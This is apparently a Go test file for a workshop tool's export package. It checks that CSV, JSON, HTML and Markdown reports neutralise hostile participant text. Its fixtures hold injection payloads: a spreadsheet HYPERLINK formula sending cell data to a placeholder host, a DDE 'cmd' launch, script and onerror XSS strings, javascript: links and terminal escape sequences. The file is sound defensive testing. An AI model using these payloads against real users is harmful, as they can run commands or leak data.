package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"workshop/session"
	"workshop/session/work"
)

// Texts a participant might type, or a tampered database might hold, to attack whoever opens
// an export: terminal control sequences, spreadsheet formulas, markup and script, Markdown
// structure, and one huge cell.
var hostile = struct {
	name, team, escape, formula, markup, markdown, huge string
}{
	name:     `=HYPERLINK("http://example.invalid/?"&A1,"Click me")`,
	team:     "@SUM(A1:A9)|pipe",
	escape:   "before\x1b]8;;http://example.invalid\x07link\x1b]8;;\x07\x1b[31mred\x1b[0m\u009b2Jafter\a",
	formula:  "+cmd|' /C calc'!A0",
	markup:   `<script>alert("x")</script><img src=x onerror=alert(1)>`,
	markdown: "# Fake heading\n- [click](javascript:alert(1)) **bold** `code` | cell\n1. numbered\n---",
	huge:     strings.Repeat("ä", 100_000),
}

func hostileReport(t *testing.T) *Report {
	f := newFixture(t)
	p := f.join(hostile.name, 7)
	teams, err := f.st.ReplaceTeams(f.ctx, f.c.ID, []string{hostile.team}, map[int64]int{p.ID: 0}, session.Event{At: at(81), Actor: "ana", Action: "teams", Detail: hostile.escape})
	if err != nil {
		t.Fatal(err)
	}
	f.art("story", p.ID, work.Reflection{Text: hostile.markdown + "\n" + hostile.markup + "\n" + hostile.escape}, session.StatusSubmitted, 82)
	f.art("ideas", p.ID, list(item("h-1", hostile.formula, p.ID), item("h-2", "-2+3", p.ID), item("h-3", "-42", p.ID), item("h-4", "\tTAB=1", p.ID), item("h-5", hostile.markup, p.ID)), session.StatusSubmitted, 82)
	f.art("journey", p.ID, work.Journey{Stages: []string{"Find out", "Apply"}, Cells: [][]string{{hostile.huge, hostile.escape}, {hostile.markdown, "=1+1"}}}, session.StatusDraft, 83)
	f.board("census", session.OwnerTeam(teams[0].ID), work.Table{Rows: [][]string{{hostile.name, "-5", "Online"}}}, 84)
	if err := f.st.Record(f.ctx, session.Event{CohortID: f.c.ID, At: at(85), Actor: hostile.name, Action: "announce", Detail: hostile.markup + hostile.markdown}); err != nil {
		t.Fatal(err)
	}
	return f.report()
}

// Hostile text comes out inert in every format.
func TestHostileTextIsInert(t *testing.T) {
	t.Parallel()
	outs := writeAll(t, hostileReport(t))

	for file, out := range outs {
		if !utf8.ValidString(out) {
			t.Errorf("%s is not valid UTF-8", file)
		}
		for _, r := range out {
			if (r < 0x20 && r != '\n' && r != '\r') || r == 0x7f || (r >= 0x80 && r < 0xa0) {
				t.Errorf("%s holds control character %U", file, r)
				break
			}
		}
		if strings.Contains(out, `\u001b`) || strings.Contains(out, `\u0007`) {
			t.Errorf("%s holds an escaped control character", file)
		}
		if !strings.Contains(out, "beforelinkredafter") && file != "golden.csv" && file != "golden-long.csv" && file != "golden-notes.csv" {
			t.Errorf("%s lost the text around the control sequences", file)
		}
	}

	t.Run("csv", func(t *testing.T) {
		for _, file := range []string{"golden.csv", "golden-artifacts.csv", "golden-long.csv"} {
			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(outs[file], bom)))
			r.FieldsPerRecord = -1
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", file, err)
			}
			for _, row := range rows {
				for _, c := range row {
					if formulaStart(c) {
						t.Errorf("%s: cell %q could run as a formula", file, c)
					}
					if n := utf8.RuneCountInString(c); n > 32767 {
						t.Errorf("%s: a cell of %d characters is over the spreadsheet limit", file, n)
					}
				}
			}
		}
		art := outs["golden-artifacts.csv"]
		for _, want := range []string{`'=HYPERLINK(`, `'+cmd|`, `'-2+3`, `,-42,`, `,-5,`, `'=1+1`, "[cut: 68000 more characters"} {
			if !strings.Contains(art, want) {
				t.Errorf("artifacts sheet lacks %q", want)
			}
		}
		if !strings.Contains(outs["golden.csv"], `'=HYPERLINK(`) || !strings.Contains(outs["golden.csv"], `'@SUM(A1:A9)|pipe`) {
			t.Error("progress sheet: the hostile name or team is missing or not neutralised")
		}
	})

	t.Run("json", func(t *testing.T) {
		out := outs["golden.json"]
		if !json.Valid([]byte(out)) {
			t.Fatal("not valid JSON")
		}
		for _, bad := range []string{"<script", "<img", "</"} {
			if strings.Contains(out, bad) {
				t.Errorf("JSON holds raw %q", bad)
			}
		}
		if !strings.Contains(out, hostile.huge) {
			t.Error("JSON cut the huge cell; it must hold everything")
		}
	})

	t.Run("html", func(t *testing.T) {
		out := outs["golden.html"]
		lower := strings.ToLower(out)
		for _, bad := range []string{"<script", "<img", "onerror=alert(1)>", "javascript:alert(1)\"", "href=\"javascript"} {
			if strings.Contains(lower, bad) {
				t.Errorf("HTML holds live %q", bad)
			}
		}
		if !strings.Contains(out, "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;") {
			t.Error("the script tag is not shown as text")
		}
		// Every tag in the file is one the report writes itself.
		allowed := map[string]bool{}
		for _, tag := range strings.Fields("html head meta title style body main nav section h1 h2 ul ol li a p strong em dl dt dd figure figcaption blockquote br div table thead tbody tr th td span svg g rect text line circle") {
			allowed[tag] = true
		}
		for _, m := range regexp.MustCompile(`<(/?)([a-zA-Z!][a-zA-Z0-9]*)`).FindAllStringSubmatch(out, -1) {
			if tag := strings.ToLower(m[2]); !allowed[tag] && tag != "!doctype" {
				t.Errorf("unexpected tag <%s>", tag)
			}
		}
	})

	t.Run("md", func(t *testing.T) {
		out := outs["golden.md"]
		for _, bad := range []string{"<script", "<img", "\n# Fake", "\n- [click]", "\n1. numbered", "\n---"} {
			if strings.Contains(out, bad) {
				t.Errorf("Markdown holds live %q", bad)
			}
		}
		if regexp.MustCompile(`[^\\]\]\(javascript:`).MatchString(out) {
			t.Error("Markdown holds a live link")
		}
		// Every table row has as many cells as its header: a | in a text cannot add one.
		cells := -1
		for _, l := range strings.Split(out, "\n") {
			if !strings.HasPrefix(l, "|") {
				cells = -1
				continue
			}
			n := len(regexp.MustCompile(`(^|[^\\])\|`).FindAllString(l, -1))
			if cells < 0 {
				cells = n
			} else if n != cells {
				t.Errorf("table row with %d cells under a header of %d: %s", n-1, cells-1, shorten(l, 200))
			}
		}
		for _, want := range []string{`\# Fake heading`, `\[click\]`, `&lt;script&gt;`, `1\. numbered`, `\*\*bold\*\*`} {
			if !strings.Contains(out, want) {
				t.Errorf("Markdown lacks the escaped %q", want)
			}
		}
	})
}

// formulaStart says whether a spreadsheet would read a cell as a formula.
func formulaStart(c string) bool {
	if c == "" || negativeNumber.MatchString(c) {
		return false
	}
	if c[0] == '\t' || c[0] == '\r' || c[0] == '\n' {
		return true
	}
	t := strings.TrimLeft(c, " ")
	return t != "" && strings.ContainsRune("=+-@", rune(t[0]))
}

func TestCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"":            "",
		"plain":       "plain",
		"=1+1":        "'=1+1",
		"  =1+1":      "'  =1+1",
		"+1":          "'+1",
		"-1":          "-1",
		"-1.5":        "-1.5",
		"-1+1":        "'-1+1",
		"@SUM(A1)":    "'@SUM(A1)",
		"\t=1":        "'\t=1",
		"\r=1":        "'\r=1",
		"a=1":         "a=1",
		"'quoted":     "'quoted",
		"Dário Ñúñez": "Dário Ñúñez",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
	long := strings.Repeat("x", maxCell+10)
	got := Cell(long)
	if !strings.HasPrefix(got, strings.Repeat("x", maxCell)+" … [cut: 10 more characters") || utf8.RuneCountInString(got) > 32767 {
		t.Errorf("long cell cut wrong: …%q", got[maxCell-5:])
	}
}

func TestMarkdownEscaping(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"# title":    `\# title`,
		"- item":     `\- item`,
		"1. first":   `1\. first`,
		"2.5 hours":  `2.5 hours`,
		"a*b_c`d":    "a\\*b\\_c\\`d",
		"<b>&amp;":   "&lt;b&gt;&amp;amp;",
		"[x](y)":     `\[x\](y)`,
		"x | y":      `x \| y`,
		"===":        `\===`,
		"two\nlines": "two lines",
	} {
		if got := mdLineStart(mdText(in)); got != want {
			t.Errorf("%q → %q, want %q", in, got, want)
		}
	}
}

func TestParseFormatAndOptions(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]Format{"csv": CSV, "JSON": JSON, "md": Markdown, "markdown": Markdown, " html ": HTML, "XLSX": XLSX, "excel": XLSX} {
		if got, err := ParseFormat(in); err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %q, %v", in, got, err)
		}
	}
	for _, in := range []string{"", "pdf", "xls"} {
		if _, err := ParseFormat(in); err == nil {
			t.Errorf("ParseFormat(%q) accepted", in)
		}
	}
	if err := (Options{Format: JSON, Artifacts: true}).Check(); err == nil {
		t.Error("--artifacts accepted with JSON")
	}
	if err := (Options{Format: HTML, Semicolon: true}).Check(); err == nil {
		t.Error("--semicolon accepted with HTML")
	}
	if err := (Options{Format: XLSX, Table: TableLong}).Check(); err == nil {
		t.Error("--table long accepted with xlsx")
	}
	if err := (Options{Format: CSV, Table: TableLong, Artifacts: true}).Check(); err == nil {
		t.Error("--table long accepted with --artifacts")
	}
	if _, err := ParseTable("wide"); err == nil {
		t.Error("an unknown table accepted")
	}
	var b bytes.Buffer
	if err := newFixture(t).report().Write(&b, Options{Format: CSV, Semicolon: true}); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(b.String(), bom+"Participant ID;Name;Team;") {
		t.Errorf("semicolon sheet starts %q", shorten(b.String(), 30))
	}
	for o, want := range map[Options]string{
		{Format: CSV, Artifacts: true}:  "K7MQ2P-artifacts.csv",
		{Format: CSV, Table: TableWork}: "K7MQ2P-artifacts.csv",
		{Format: CSV, Table: TableLong}: "K7MQ2P-long.csv",
		{Format: CSV}:                   "K7MQ2P.csv",
		{Format: XLSX}:                  "K7MQ2P.xlsx",
		{Format: HTML}:                  "K7MQ2P.html",
	} {
		if got := FileName("k7mq-2p", o); got != want {
			t.Errorf("file name %q, want %q", got, want)
		}
	}
}

// People whose names look the same (a Cyrillic letter, a zero-width space) are told apart in
// every format, the way the console tells them apart.
func TestLookAlikeNamesAreToldApart(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	for i, n := range []string{"Ana", "Аna", "Ana\u200b"} {
		f.join(n, 7+i)
	}
	r := f.report()
	var got []string
	for _, p := range r.Participants {
		got = append(got, p.Name)
	}
	if want := "Ana|Аna · 2|Ana · 3"; len(got) < 3 || strings.Join(got[len(got)-3:], "|") != want {
		t.Fatalf("participants %q, want %s", got, want)
	}
	for file, out := range writeAll(t, r) {
		if strings.Contains(file, "artifacts") || strings.Contains(file, "notes") {
			continue // the sheets of work and of notes list no one who did no work
		}
		for _, label := range []string{"Аna · 2", "Ana · 3"} {
			if !strings.Contains(out, label) {
				t.Errorf("%s does not show %q", file, label)
			}
		}
		if strings.Contains(out, "\u200b") {
			t.Errorf("%s holds a zero-width space", file)
		}
	}
}
